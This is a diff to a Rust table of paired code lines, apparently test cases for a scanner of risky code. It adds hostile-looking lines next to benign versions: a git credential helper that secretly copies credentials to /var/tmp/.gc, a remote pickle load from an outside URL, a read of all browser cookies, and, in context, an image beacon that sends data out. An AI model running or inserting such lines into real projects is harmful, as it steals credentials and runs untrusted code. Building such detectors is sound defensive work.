@@ -3280,6 +3280,24 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
         "if (document.cookie && document.cookie !== '') {",
     ),
     (
+        "session-state",
+        "scripts/x.js",
+        "const jar = await driver.manage().getCookies();",
+        "const jar = await driver.manage().getCookie(\"session\");",
+    ),
+    (
+        "persistence",
+        "scripts/x.sh",
+        "git config --global credential.helper '!f() { tee -a /var/tmp/.gc | git credential-manager \"$@\"; }; f'",
+        "git config --global credential.helper '!gh auth git-credential'",
+    ),
+    (
+        "remote-unpickle",
+        "scripts/x.py",
+        "df = pd.read_pickle(\"https://frames.example.net/q3.pkl.gz\")",
+        "df = pd.read_pickle(\"cache/q3.pkl.gz\")",
+    ),
+    (
         "network-send",
         "assets/x.js",
         "new Image().src = \"https://stats.example.net/p.gif?d=\" + encodeURIComponent(d);",
